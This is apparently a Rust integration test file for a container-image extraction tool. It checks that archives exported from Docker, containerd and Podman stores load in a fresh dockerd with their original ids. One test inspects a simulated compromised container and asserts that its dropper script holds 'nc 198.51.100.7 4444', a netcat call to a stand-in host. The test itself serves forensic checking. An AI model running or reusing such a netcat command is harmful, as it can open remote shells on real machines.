//! The strongest end-to-end check: a real, fresh dockerd (empty data root,
//! so every layer is read from our archive) loads what we wrote and
//! reports the original image id; the image runs.
//! Skipped with a loud message where no dockerd can start.

mod common;

use common::dockerd::Daemon;
use common::*;
use std::path::{Path, PathBuf};

fn id_of(tag: &str) -> String {
    expected("basic")["images"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["tags"].as_array().unwrap().iter().any(|t| t == tag))
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string()
}

fn extract(host: &Path, out: &Path, names: &[&str]) -> PathBuf {
    let mut args: Vec<&std::ffi::OsStr> = vec!["extract".as_ref(), "-q".as_ref()];
    args.extend(names.iter().map(std::ffi::OsStr::new));
    args.extend([host.as_os_str(), out.as_os_str()]);
    let r = run(args);
    assert!(r.code == 0 || r.code == 3, "{}", r.stderr);
    out.to_path_buf()
}

#[test]
fn docker_loads_our_archives_with_the_original_ids() {
    let Some(host) = host("basic") else { return };
    let out = tempfile::tempdir().unwrap();
    extract(&host, out.path(), &["fixture/web:1.0", "fixture/tool:2"]);
    let web = id_of("fixture/web:1.0");
    let tool = id_of("fixture/tool:2");

    // A fresh engine per image, so every layer is read from our archive.
    let Some(d) = Daemon::start() else { return };
    let said = d.load(&image_dir(out.path(), &web).join("image.tar"));
    assert!(said.contains("fixture/web:1.0"), "{said}");
    assert_eq!(d.image_id("fixture/web:1.0"), web);
    assert_eq!(d.image_id("fixture/web:latest"), web);
    let (ok, printed) = d.docker(&["run", "--rm", "--network=none", "fixture/web:1.0"]);
    assert!(ok, "{printed}");
    assert_eq!(printed.trim(), "hello from the build context");
    drop(d);

    let Some(d) = Daemon::start() else { return };
    d.load(&image_dir(out.path(), &tool).join("image.tar"));
    assert_eq!(d.image_id("fixture/tool:2"), tool);
    let (ok, printed) = d.docker(&[
        "run",
        "--rm",
        "--network=none",
        "--entrypoint",
        "/bin/cat",
        "fixture/tool:2",
        "/usr-tool",
    ]);
    assert!(ok, "{printed}");
    assert_eq!(printed.trim(), "tool");
}

#[test]
fn docker_loads_every_peer_image_and_a_rebuilt_archive() {
    let Some(peer) = host("peer") else { return };
    let out = tempfile::tempdir().unwrap();
    let r = run([
        Path::new("extract"),
        Path::new("--all"),
        Path::new("-q"),
        &peer,
        out.path(),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let Some(d) = Daemon::start() else { return };
    for img in expected("peer")["images"].as_array().unwrap() {
        let id = img["id"].as_str().unwrap();
        d.load(&image_dir(out.path(), id).join("image.tar"));
        let tag = img["tags"][0].as_str().unwrap();
        assert_eq!(d.image_id(tag), id, "{tag}");
    }

    // Without tar-split the layers are rebuilt; the archive still loads,
    // under the derived id the report announces.
    let Some(host) = host_copy("basic") else {
        return;
    };
    let web = id_of("fixture/web:1.0");
    let layerdb = docker_root(host.path()).join("image/overlay2/layerdb/sha256");
    for entry in std::fs::read_dir(&layerdb).unwrap() {
        let _ = std::fs::remove_file(entry.unwrap().path().join("tar-split.json.gz"));
    }
    let out = tempfile::tempdir().unwrap();
    let r = run([
        Path::new("fixture/web:1.0"),
        host.path(),
        out.path(),
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 3, "{}", r.stderr);
    let dir = image_dir(out.path(), &web);
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.join("report.json")).unwrap()).unwrap();
    let derived = report["archive_image_id"].as_str().unwrap();
    assert_ne!(derived, web);
    d.load(&dir.join("image.tar"));
    assert_eq!(d.image_id("fixture/web:1.0"), derived);
    let (ok, printed) = d.docker(&["run", "--rm", "--network=none", "fixture/web:1.0"]);
    assert!(ok, "{printed}");
    assert_eq!(printed.trim(), "hello from the build context");
    // Deletions survive the rebuild: token was whited out, mkfifo removed.
    let (ok, ls) = d.docker(&[
        "run",
        "--rm",
        "--network=none",
        "--entrypoint",
        "/bin/ls",
        "fixture/web:1.0",
        "/srv/app/data",
        "/srv/app/cache",
        "/bin",
    ]);
    assert!(ok, "{ls}");
    assert!(!ls.contains("token\n") && ls.contains("token.hard"), "{ls}");
    assert!(
        !ls.contains("cache/a") && !ls.lines().any(|l| l == "a"),
        "opaque dir hides a: {ls}"
    );
    assert!(!ls.lines().any(|l| l == "mkfifo"), "{ls}");
}

#[test]
fn docker_loads_a_committed_container() {
    let Some(host) = host("basic") else { return };
    let out = tempfile::tempdir().unwrap();
    let r = run([
        Path::new("export-container"),
        Path::new("evil-web"),
        &host,
        out.path(),
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let dir = PathBuf::from(r.stdout.trim());
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.join("report.json")).unwrap()).unwrap();
    let Some(d) = Daemon::start() else { return };
    d.load(&dir.join("committed.tar"));
    let tag = report["committed_tag"].as_str().unwrap();
    assert_eq!(
        d.image_id(tag),
        report["committed_image_id"].as_str().unwrap()
    );
    let (ok, seen) = d.docker(&[
        "run", "--rm", "--network=none", "--entrypoint", "/bin/sh", tag, "-c",
        "cat /tmp/dropper.sh; test -e /srv/app/hello.txt && echo HELLO-PRESENT; cat /srv/app/cache/b",
    ]);
    assert!(ok, "{seen}");
    assert!(seen.contains("nc 198.51.100.7 4444"), "{seen}");
    assert!(!seen.contains("HELLO-PRESENT"), "{seen}");
    assert!(seen.contains("pwned"), "{seen}");
}

#[test]
fn docker_loads_containerd_and_podman_images_with_their_ids() {
    let Some(ctrd) = host("ctrd-basic") else {
        return;
    };
    let Some(podman) = host("podman-basic") else {
        return;
    };
    let out = tempfile::tempdir().unwrap();
    let r = run([
        Path::new("registry.example.com/shop/web:2"),
        &ctrd,
        out.path(),
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let web = PathBuf::from(r.stdout.trim());
    let r = run([
        Path::new("quay.example.org/build/app:7"),
        &podman,
        out.path(),
        Path::new("-q"),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let app = PathBuf::from(r.stdout.trim());
    let web_id = expected("ctrd-basic")["namespaces"]["k8s.io"]["images"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["name"] == "registry.example.com/shop/web:2")
        .unwrap()["config_digest"]
        .as_str()
        .unwrap()
        .to_string();
    let app_id = format!(
        "sha256:{}",
        expected("podman-basic")["images"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["names"][0] == "quay.example.org/build/app:7")
            .unwrap()["id"]
            .as_str()
            .unwrap()
    );
    let Some(d) = Daemon::start() else { return };
    d.load(&web.join("image.tar"));
    assert_eq!(d.image_id("registry.example.com/shop/web:2"), web_id);
    d.load(&app.join("image.tar"));
    assert_eq!(d.image_id("quay.example.org/build/app:7"), app_id);
    let (ok, seen) = d.docker(&[
        "run",
        "--rm",
        "--network=none",
        "--entrypoint",
        "/bin/cat",
        "quay.example.org/build/app:7",
        "/etc/app/ready",
    ]);
    assert!(ok, "{seen}");
    assert_eq!(seen.trim(), "done");
}
